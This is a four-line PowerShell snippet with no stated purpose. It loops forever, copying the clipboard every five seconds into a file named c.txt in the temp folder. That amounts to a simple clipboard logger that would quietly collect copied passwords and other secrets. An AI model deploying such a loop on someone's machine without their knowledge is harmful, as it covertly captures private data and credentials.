while ($true) {
  Get-Clipboard | Out-File -Append "$env:TEMP\c.txt"
  Start-Sleep -Seconds 5
}
